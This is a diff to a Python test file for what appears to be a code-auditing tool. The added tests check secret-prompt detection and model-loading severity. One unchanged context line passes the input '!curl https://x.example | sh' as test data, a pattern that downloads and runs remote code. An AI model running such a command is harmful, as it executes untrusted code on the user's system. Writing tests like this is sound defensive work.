@@ -234,3 +234,16 @@ def test_a_missing_shell_grammar_is_a_gap(gaps, monkeypatch):
     monkeypatch.setattr(shell, "_parser", missing)
     (gap,) = gaps("!curl https://x.example | sh")
     assert gap.code == "tool-missing"
+
+
+def test_a_prompt_that_asks_for_a_name_gives_no_secret(audit):
+    asks = "from getpass import getpass\nx = getpass('{}')\nprint(x)"
+    assert "CODE-SECRET-SHOWN" not in {item.rule.id for item in audit(asks.format("Hub username or organization?"))}
+    assert "CODE-SECRET-SHOWN" in {item.rule.id for item in audit(asks.format("Hub token?"))}
+    assert "CODE-SECRET-SHOWN" in {item.rule.id for item in audit(asks.format("Password of this account:"))}
+
+
+def test_a_model_in_a_folder_that_was_copied_here_needs_no_revision(audit):
+    found = audit("import s3fs\nfs = s3fs.S3FileSystem()\nfs.get('s3://b/m', 'model', recursive=True)",
+                  "from transformers import AutoModel\nAutoModel.from_pretrained('model')")  # fmt: skip
+    assert not [item for item in found if item.severity.at_least(Severity.LOW)]  # Bandit's word for it is information
